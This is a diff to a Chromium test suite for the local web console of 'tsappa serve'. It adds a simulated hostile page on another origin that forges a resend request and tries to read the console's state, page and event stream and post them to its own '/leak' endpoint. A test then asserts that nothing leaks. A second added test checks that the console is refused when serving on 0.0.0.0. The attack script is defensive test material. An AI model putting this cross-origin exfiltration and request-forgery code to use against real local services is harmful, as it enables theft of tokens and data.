@@ -211,14 +211,24 @@ describeWithChromium('the local console of tsappa serve, in Chromium', (chromium
     const token = (await page.locator('meta[name="tsappa-console-token"]').getAttribute('content')) ?? '';
     expect(token).toMatch(/^[0-9a-f]{48}$/);
 
-    // another origin: the same host on another port, as any page the user has open could be
-    const evil: Server = createServer((_req, res) => {
+    // another origin: the same host on another port, as any page the user has open could be; it
+    // also tries to read the console's history and token and send them home
+    const leaked: string[] = [];
+    const evil: Server = createServer((req, res) => {
+      if (req.url === '/leak') {
+        req.on('data', (chunk: Buffer) => leaked.push(chunk.toString()));
+        return void res.writeHead(204).end();
+      }
       res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>
 <form id="f" method="POST" action="${resendUrl}"></form>
 <script>
+  const leak = (text) => fetch('/leak', { method: 'POST', body: String(text) });
   fetch(${JSON.stringify(resendUrl)}, { method: 'POST', mode: 'no-cors' }).catch(() => {});
   fetch(${JSON.stringify(resendUrl)}, { method: 'POST', headers: { ${JSON.stringify(TOKEN_HEADER)}: 'guessed' } }).catch(() => {});
-  setTimeout(() => document.getElementById('f').submit(), 300);
+  fetch(${JSON.stringify(`${origin}/_tsappa/api/state`)}).then((r) => r.text()).then(leak, () => {});
+  fetch(${JSON.stringify(served.consoleUrl)}).then((r) => r.text()).then(leak, () => {});
+  new EventSource(${JSON.stringify(`${origin}/_tsappa/api/events`)}).addEventListener('snapshot', (e) => leak(e.data));
+  setTimeout(() => document.getElementById('f').submit(), 1500);
 </script>`);
     });
     await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
@@ -227,6 +237,7 @@ describeWithChromium('the local console of tsappa serve, in Chromium', (chromium
       await evilPage.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
       await evilPage.waitForURL(resendUrl, { timeout: 10_000 });
       expect(await evilPage.content()).toContain('another origin');
+      expect(leaked).toEqual([]);
     } finally {
       await evilPage.close();
       evil.closeAllConnections();
@@ -247,6 +258,20 @@ describeWithChromium('the local console of tsappa serve, in Chromium', (chromium
     await new Promise((r) => setTimeout(r, 500));
     expect((await heldDeadLetters()).find((d) => d.id === held!.id)?.resent).toBe(before);
   });
+
+  it('is not served when serve listens beyond this machine (--host 0.0.0.0)', async () => {
+    const wide = await Served.serve(dir, 'dev', ['--no-watch', '--no-schedules', '--host', '0.0.0.0']).started('dev');
+    try {
+      expect(wide.consoleUrl).toBe('');
+      expect(wide.output).toContain('the console is served only on a loopback host (127.0.0.1, localhost or ::1), not on 0.0.0.0');
+      // /_tsappa/ is then what API Gateway answers outside the stage
+      const res = await fetch(`${new URL(wide.url).origin}/_tsappa/`);
+      expect(res.status).toBe(403);
+      expect(await res.text()).toContain('Missing Authentication Token');
+    } finally {
+      expect(await wide.stop()).toBe(0);
+    }
+  }, 120_000);
 
   it('resends only the events it holds: an unknown id is refused and a body is never sent', async () => {
     const token = (await page.locator('meta[name="tsappa-console-token"]').getAttribute('content')) ?? '';
